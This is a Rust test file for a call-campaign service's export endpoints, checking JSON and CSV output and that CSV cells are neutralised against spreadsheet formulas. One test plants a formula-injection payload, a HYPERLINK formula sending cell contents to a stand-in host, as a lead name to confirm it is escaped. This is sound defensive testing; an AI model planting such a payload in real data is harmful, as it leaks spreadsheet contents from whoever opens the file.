use chrono::Utc;
use serde_json::Value;
use voice_runtime::domain::CallStatus;
use voice_runtime::store::{CallEnd, NewCallSession};

use crate::analytics::seed_calls;
use crate::both_backends;
use crate::helpers::{error_of, spawn_app, Backend};

async fn json_export_has_every_call_with_its_transcript(backend: Backend) {
    let app = spawn_app(backend).await;
    let id = seed_calls(&app).await;
    let response = app
        .get(&format!("/exports/calls/{id}"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let calls: Vec<Value> = response.json().await.unwrap();
    assert_eq!(calls.len(), 3);
    assert_eq!(calls[0]["call_sid"], "CA1");
    assert_eq!(calls[0]["lead_name"], "Anita");
    assert_eq!(calls[0]["final_outcome"], "qualified");
    assert_eq!(calls[0]["transcript"][1]["text"], "Hi, a 2BHK in Pune");
    assert_eq!(calls[1]["status"], "NO_ANSWER");
    assert_eq!(calls[1]["transcript"], Value::Null);
}

async fn csv_export_is_readable(backend: Backend) {
    let app = spawn_app(backend).await;
    let id = seed_calls(&app).await;
    let response = app
        .get(&format!("/exports/calls/{id}?format=csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert!(response.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[1], "call_sid");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    let transcript = headers.iter().position(|h| h == "transcript").unwrap();
    assert_eq!(
        &rows[0][transcript],
        "ai: Hello Anita\nuser: Hi, a 2BHK in Pune"
    );
}

async fn empty_and_unknown_exports(backend: Backend) {
    let app = spawn_app(backend).await;
    let id = app.campaign_id().await;
    let calls: Vec<Value> = app
        .get(&format!("/exports/calls/{id}"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(calls.is_empty());
    error_of(app.get("/exports/calls/999").send().await.unwrap(), 404).await;
    let xml = app
        .get(&format!("/exports/calls/{id}?format=xml"))
        .send()
        .await
        .unwrap();
    assert_eq!(error_of(xml, 422).await["field"], "format");
}

/// A lead's name is attacker-controlled text: in the CSV it must not be a live formula, and
/// neither may the phone (`+91…` is a formula to a spreadsheet).
async fn csv_export_neutralises_formulas(backend: Backend) {
    let app = spawn_app(backend).await;
    let id = app.campaign_id().await;
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
    let csv = format!("name,phone\n\"{}\",9876543210\n", evil.replace('"', "\"\""));
    let (status, _) = app.upload_csv(id, &csv).await;
    assert_eq!(status, 200);
    let leads: Value = app
        .get(&format!("/campaigns/{id}/leads"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(leads["items"][0]["name"], evil, "stored verbatim");
    let lead_id = leads["items"][0]["id"].as_i64().unwrap();
    let store = &app.state.store;
    let now = Utc::now();
    let session = NewCallSession {
        call_sid: "-CA1".into(),
        lead_id,
        campaign_id: id,
        scheduled_call_id: None,
        status: CallStatus::Initiated,
    };
    store.create_call_session(&session, now).await.unwrap();
    let end = CallEnd {
        status: CallStatus::NoAnswer,
        answered_at: None,
        ended_at: now,
        duration_seconds: None,
        recording_url: None,
    };
    assert!(store.finish_call_session("-CA1", &end).await.unwrap());
    let text = app
        .get(&format!("/exports/calls/{id}?format=csv"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(cell("lead_name"), format!("'{evil}"));
    assert_eq!(cell("phone"), "'+919876543210");
    assert_eq!(cell("call_sid"), "'-CA1");
    assert_eq!(cell("status"), "NO_ANSWER");
    // The JSON export is data, not a spreadsheet: it keeps the name as it is.
    let calls: Vec<Value> = app
        .get(&format!("/exports/calls/{id}"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(calls[0]["lead_name"], evil);
}

both_backends!(
    json_export_has_every_call_with_its_transcript,
    csv_export_is_readable,
    csv_export_neutralises_formulas,
    empty_and_unknown_exports,
);
